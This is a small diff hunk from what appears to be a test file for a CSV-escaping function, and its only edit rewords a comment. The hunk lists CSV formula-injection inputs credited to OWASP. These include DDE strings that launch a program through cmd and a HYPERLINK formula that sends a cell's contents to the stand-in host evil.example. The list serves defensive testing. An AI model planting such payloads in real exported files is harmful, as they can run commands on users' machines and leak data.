@@ -116,7 +116,7 @@ test.each([
   expect(csvLine([cell])).toBe(`${written}\r\n`);
 });
 
-/** Of OWASP's page on CSV injection, and of lists that go round. */
+/** Inputs from OWASP's page on CSV injection and from published lists. */
 const attacks = [
   ...['=1+1', '+1+1', '-1+1', "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"],
   '=HYPERLINK("http://evil.example?x="&A1,"here")',
